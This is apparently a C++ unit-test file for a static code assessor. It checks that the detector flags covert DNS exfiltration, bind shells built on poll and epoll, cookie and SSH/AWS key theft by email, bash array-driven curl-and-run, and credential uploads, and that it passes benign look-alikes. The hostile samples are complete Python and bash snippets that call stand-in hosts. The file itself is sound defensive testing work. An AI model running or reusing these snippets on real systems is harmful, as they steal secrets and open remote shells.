// The classes the thirty-seventh round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog41_MANIFEST.tsv): marketing automation, release
// engineering, database administration, machine-learning workflows and
// ISP operations. Its aside scored 25/25 before any change; the classes
// below came from its tune part (72/75 before), and the first from a known
// limit (select.poll and select.epoll). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A list of unknown length keeps what is known of its end: labels cut from
// an encoded secret, then the zone appended, joined by dots, is a DNS name
// under that zone.
TEST(ThirtySeventhRoundClasses, TheKnownEndOfAListOfUnknownLength) {
  const Case cases[] = {
      {"environment secrets as DNS labels in chunks under a zone", B,
       "import base64, os, socket\n"
       "ZONE = 't.stats-probe.net'\n"
       "blob = '\\n'.join(f'{k}={v}' for k, v in os.environ.items() if 'TOKEN' in k)\n"
       "enc = base64.b32encode(blob.encode()).decode().rstrip('=').lower()\n"
       "labels = [enc[i:i + 60] for i in range(0, len(enc), 60)]\n"
       "total = (len(labels) + 2) // 3\n"
       "for seq in range(total):\n"
       "    chunk = labels[seq * 3:(seq + 1) * 3]\n"
       "    try:\n"
       "        socket.getaddrinfo('.'.join(chunk + [f'{seq}-{total}', ZONE]), None)\n"
       "    except socket.gaierror:\n"
       "        pass\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"the same, the zone appended after the labels", B,
       "import base64, os, socket\n"
       "enc = base64.b32encode(os.environ['API_TOKEN'].encode()).decode()\n"
       "parts = [enc[i:i + 50] for i in range(0, len(enc), 50)]\n"
       "parts.append('beacon.example.org')\n"
       "socket.gethostbyname('.'.join(parts))\n",
       "EXFILTRATION"},
      {"resolver latency over a table of names", L,
       "import socket, time\n"
       "names = [n.strip() for n in open('names.txt') if n.strip()]\n"
       "for n in names + ['www.example.org']:\n"
       "    t0 = time.perf_counter()\n"
       "    socket.getaddrinfo(n, 443)\n"
       "    print(n, time.perf_counter() - t0)\n"},
  };
  for (const auto& c : cases) check(c);

  // What changes a list's end other than an append forgets it: reversed,
  // the zone is the name's start, and nothing says where the name ends.
  for (const char* change : {"parts.reverse()", "parts.insert(0, 'x')\nparts.sort()", "del parts[-1]"}) {
    std::string code =
        "import base64, os, socket\n"
        "enc = base64.b32encode(os.environ['API_TOKEN'].encode()).decode()\n"
        "parts = [enc[i:i + 50] for i in range(0, len(enc), 50)]\n"
        "parts.append('beacon.example.org')\n" +
        std::string(change) + "\nsocket.gethostbyname('.'.join(parts))\n";
    Assessment a = py(code);
    EXPECT_FALSE(has_rule(a, "COVERT-CHANNEL-EXFILTRATION")) << change << "\n" << describe(a);
  }
}

// poll and epoll objects hand back what was registered, as selectors do: a
// shell's pipes and a client socket relayed by a poll loop are a bind shell.
TEST(ThirtySeventhRoundClasses, PollAndEpollHandBackWhatWasRegistered) {
  auto bind_shell = [](const std::string& make, const std::string& in) {
    return "import os, select, socket, subprocess\n"
           "srv = socket.socket()\nsrv.bind(('0.0.0.0', 4444))\nsrv.listen(1)\n"
           "conn, _ = srv.accept()\n"
           "proc = subprocess.Popen(['/bin/sh', '-i'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
           "poller = select." + make + "()\n"
           "poller.register(conn, select." + in + ")\n"
           "poller.register(proc.stdout, select." + in + ")\n"
           "by_fd = {conn.fileno(): conn, proc.stdout.fileno(): proc.stdout}\n"
           "while True:\n"
           "    for fd, _ in poller.poll(1000):\n"
           "        if by_fd[fd] is conn:\n"
           "            proc.stdin.write(conn.recv(4096))\n"
           "            proc.stdin.flush()\n"
           "        else:\n"
           "            conn.sendall(os.read(fd, 4096))\n";
  };
  const std::string poll_shell = bind_shell("poll", "POLLIN"), epoll_shell = bind_shell("epoll", "EPOLLIN");
  const Case cases[] = {
      {"a bind shell behind select.poll", B, poll_shell.c_str(), "REVERSE-SHELL"},
      {"a bind shell behind select.epoll", B, epoll_shell.c_str(), "REVERSE-SHELL"},
      {"an echo server behind select.epoll", M,
       "import select, socket\n"
       "srv = socket.socket()\nsrv.bind(('0.0.0.0', 7000))\nsrv.listen()\n"
       "ep = select.epoll()\nep.register(srv.fileno(), select.EPOLLIN)\nconns = {}\n"
       "while True:\n"
       "    for fd, ev in ep.poll(1.0):\n"
       "        if fd == srv.fileno():\n"
       "            c, _ = srv.accept()\n"
       "            conns[c.fileno()] = c\n"
       "            ep.register(c.fileno(), select.EPOLLIN)\n"
       "        else:\n"
       "            data = conns[fd].recv(4096)\n"
       "            conns[fd].sendall(data)\n"},
  };
  for (const auto& c : cases) check(c);
}

// A path of several alternatives (a generator's, a branch's) opens each of
// them: browser cookies read through a generator of profile directories.
TEST(ThirtySeventhRoundClasses, EveryAlternativeOfAnOpenedPath) {
  const Case cases[] = {
      {"cookies of every profile a generator yields, mailed", B,
       "import json, smtplib, sqlite3\nfrom pathlib import Path\n"
       "def profiles():\n"
       "    base = Path.home() / '.config/google-chrome'\n"
       "    yield from (p for p in base.iterdir() if (p / 'Cookies').exists())\n"
       "for p in profiles():\n"
       "    db = sqlite3.connect(p / 'Cookies')\n"
       "    rows = list(db.execute('SELECT host_key, value FROM cookies'))\n"
       "    with smtplib.SMTP('smtp.example.com', 587) as s:\n"
       "        s.sendmail('a@example.com', 'b@example.com', json.dumps(rows))\n",
       "EXFILTRATION"},
      {"the project's own databases a generator yields, mailed", L,
       "import json, smtplib, sqlite3\nfrom pathlib import Path\n"
       "def databases():\n"
       "    yield from Path('data').glob('*.sqlite')\n"
       "for p in databases():\n"
       "    db = sqlite3.connect(p)\n"
       "    rows = list(db.execute('SELECT name, total FROM daily'))\n"
       "    with smtplib.SMTP('smtp.example.com', 587) as s:\n"
       "        s.sendmail('a@example.com', 'b@example.com', json.dumps(rows))\n"},
  };
  for (const auto& c : cases) check(c);
}

// A spool read back by a glob finds files written under known names too
// (spool/000-id_rsa.json), not only under names made at run time.
TEST(ThirtySeventhRoundClasses, ASpoolOfKnownNamesReadBackByAGlob) {
  const Case cases[] = {
      {"key files spooled under their names, then mailed", B,
       "import json, smtplib\nfrom email.message import EmailMessage\nfrom pathlib import Path\n"
       "SPOOL = Path('.spool')\nSPOOL.mkdir(exist_ok=True)\n"
       "for n, src in enumerate(['~/.ssh/id_rsa', '~/.aws/credentials']):\n"
       "    p = Path(src).expanduser()\n"
       "    (SPOOL / f'{n:03d}-{p.name}.json').write_text(json.dumps({'c': p.read_text()}))\n"
       "msg = EmailMessage()\n"
       "for item in sorted(SPOOL.glob('*.json')):\n"
       "    msg.add_attachment(item.read_bytes(), maintype='application', subtype='json')\n"
       "with smtplib.SMTP_SSL('smtp.example.org', 465) as s:\n"
       "    s.send_message(msg)\n",
       "EXFILTRATION"},
      {"build reports spooled under their names, then mailed", L,
       "import json, smtplib\nfrom email.message import EmailMessage\nfrom pathlib import Path\n"
       "SPOOL = Path('.spool')\nSPOOL.mkdir(exist_ok=True)\n"
       "for n, src in enumerate(['build.log', 'coverage.xml']):\n"
       "    p = Path(src)\n"
       "    (SPOOL / f'{n:03d}-{p.name}.json').write_text(json.dumps({'c': p.read_text()}))\n"
       "msg = EmailMessage()\n"
       "for item in sorted(SPOOL.glob('*.json')):\n"
       "    msg.add_attachment(item.read_bytes(), maintype='application', subtype='json')\n"
       "with smtplib.SMTP_SSL('smtp.example.org', 465) as s:\n"
       "    s.send_message(msg)\n"},
  };
  for (const auto& c : cases) check(c);
}

// A[k]=v sets one element of a bash array (a known limit until now): a
// download's URL and file kept in an associative array are still followed.
TEST(ThirtySeventhRoundClasses, BashArrayElementAssignments) {
  const Case cases[] = {
      {"a download and its run named by an associative array's elements", B,
       "#!/bin/bash\ndeclare -A T\nT[url]=\"http://203.0.113.9/x.sh\"\nT[dst]=\"/tmp/x.sh\"\n"
       "curl -s \"${T[url]}\" -o \"${T[dst]}\"\nbash \"${T[dst]}\"\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"key files put into an indexed array by position, uploaded", B,
       "#!/bin/bash\nfiles=()\nfiles[0]=\"$HOME/.ssh/id_rsa\"\nfiles[1]=\"$HOME/.aws/credentials\"\n"
       "for f in \"${files[@]}\"; do curl -s -F \"f=@$f\" https://drop.example.net/u; done\n",
       "EXFILTRATION", SH},
      {"a build's files put into an indexed array by position, uploaded", L,
       "#!/bin/bash\nfiles=()\nfiles[0]=\"dist/app.tar.gz\"\nfiles[1]=\"dist/app.sha256\"\n"
       "for f in \"${files[@]}\"; do curl -s -F \"f=@$f\" https://releases.example.net/u; done\n",
       nullptr, SH},
      {"a mirror's URL and file in an associative array, the file only listed", L,
       "#!/bin/bash\ndeclare -A T\nT[url]=\"https://mirror.example.org/pkg.tar.gz\"\nT[dst]=\"pkg.tar.gz\"\n"
       "curl -fsSL \"${T[url]}\" -o \"${T[dst]}\"\ntar -tzf \"${T[dst]}\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
